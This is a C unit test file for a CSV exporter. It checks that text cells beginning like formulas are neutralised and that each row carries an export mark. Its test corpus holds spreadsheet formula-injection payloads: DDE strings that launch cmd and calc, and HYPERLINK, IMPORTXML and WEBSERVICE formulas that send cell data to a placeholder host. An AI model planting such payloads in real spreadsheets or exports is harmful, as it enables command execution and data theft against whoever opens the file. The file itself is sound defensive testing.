/* Exports as CSV: no cell of words is a formula, and every row says for whom it was made. */
#include "tests/test.h"
#include "wire/csv_out.h"
#include "wire/out.h"

#include <string.h>

static char room[65536];
static const struct export_mark mark = {{123456789012345}, INT64_C(1764324900000000)};
#define MARK "\"1234-5678-9012-345 2025-11-28T10:15:00Z\""

static const char *row_of(void (*write)(struct csv_sheet *))
{
    struct arena a = arena_over(room, sizeof room);
    struct csv_sheet sheet = csv_begin(&a, &mark);
    csv_word(&sheet, "first");
    csv_end_row(&sheet);
    write(&sheet);
    csv_end_row(&sheet);
    text whole = csv_end(&a, &sheet);
    assert_non_null(whole.at);
    text head = T("\"first\",\"exported_for\"\r\n");
    assert_true(text_starts_with(whole, head));
    return whole.at + head.length;
}

static void some_cells(struct csv_sheet *sheet)
{
    csv_integer(sheet, -12);
    csv_money(sheet, (money){-93099});
    csv_day(sheet, DATE(2025, 11, 28));
    csv_day(sheet, NO_DATE);
    csv_empty(sheet);
    csv_text(sheet, T("a \"b\", c"));
    csv_text(sheet, T(""));
    csv_text(sheet, T("\xFF"));
}

static void t22_every_row_bears_its_reader_and_numbers_stay_numbers(void **state)
{
    (void)state;
    assert_string_equal(row_of(some_cells),
                        "-12,-930.99,2025-11-28,,,\"a \"\"b\"\", c\",,," MARK "\r\n");
}

/* What has been used to make a spreadsheet call, or send itself, somewhere. */
static const char *const corpus[] = {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.test/?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://example.test\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.test\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  \t +1",
    "\xC2\xA0=1+1",
    "\xE2\x80\xAF=1+1",
    "\xEF\xBB\xBF=1+1",
    "\xEF\xBC\x9D"
    "1+1",
    "\xEF\xBC\x8B"
    "1",
    "\xEF\xBC\x8D"
    "1",
    "\xEF\xBC\xA0"
    "A1",
    "+33 6 39 98 70 12",
    "-",
    "=",
};
static const char *const harmless[] = {"Camille", "1=1", "a@exemple.test", "O'Neil", "12",
                                       "''",      "."};

static const char *cell;
static void one_cell(struct csv_sheet *sheet) { csv_word(sheet, cell); }

static void t22_no_cell_of_words_begins_as_a_formula(void **state)
{
    (void)state;
    for (size_t i = 0; i < LENGTH(corpus); i++) {
        cell = corpus[i];
        const char *row = row_of(one_cell);
        if (strncmp(row, "\"'", 2) != 0) fail_msg("formula %zu is not put out: %s", i, row);
        /* Nothing of the cell ends it early: quotes pair up to the mark. */
        const char *end = strstr(row, "\"," MARK "\r\n");
        assert_non_null(end);
        int quotes = 0;
        for (const char *c = row + 1; c < end; c++) quotes += *c == '"';
        assert_int_equal(quotes % 2, 0);
    }
    for (size_t i = 0; i < LENGTH(harmless); i++) {
        cell = harmless[i];
        const char *row = row_of(one_cell);
        assert_int_equal(row[0], '"');
        assert_int_equal(strncmp(row + 1, cell, strlen(cell)), 0);
    }
}

static void a_sheet_too_large_is_no_sheet(void **state)
{
    (void)state;
    static char small[40];
    struct arena a = arena_over(small, sizeof small);
    struct csv_sheet sheet = csv_begin(&a, &mark);
    for (int i = 0; i < 20; i++) csv_word(&sheet, "word");
    assert_null(csv_end(&a, &sheet).at);
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test(t22_every_row_bears_its_reader_and_numbers_stay_numbers),
        cmocka_unit_test(t22_no_cell_of_words_begins_as_a_formula),
        cmocka_unit_test(a_sheet_too_large_is_no_sheet),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
